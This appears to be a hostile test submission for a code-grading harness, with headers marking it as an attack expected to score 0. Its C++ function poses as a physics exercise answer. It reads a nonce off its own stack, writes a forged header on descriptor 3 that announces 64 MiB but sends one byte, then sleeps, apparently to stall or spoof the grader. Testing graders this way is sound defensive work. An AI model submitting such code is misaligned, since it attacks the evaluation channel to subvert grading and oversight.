// attack: announces an answer of 64 MiB and sends one byte of it
// exercise: 01_gbf/box
// from: own
// score: 0
// slow: yes
// seconds: 60
rbc::Particle rbc::ex01::step_in_box(rbc::Particle p, const Box&) {
    const unsigned long* at = static_cast<const unsigned long*>(__builtin_frame_address(0));
    unsigned long nonce = 0;
    for (int i = 0; i < 4000 && nonce == 0; ++i)
        if (at[i + 1] == 11 && at[i + 2] > 8 && at[i + 2] < 200) nonce = at[i];
    const unsigned long head[3] = {nonce, 2, 64ul << 20};
    if (::write(3, head, sizeof head) > 0 && ::write(3, "x", 1) > 0) ::sleep(60);
    return p;
}
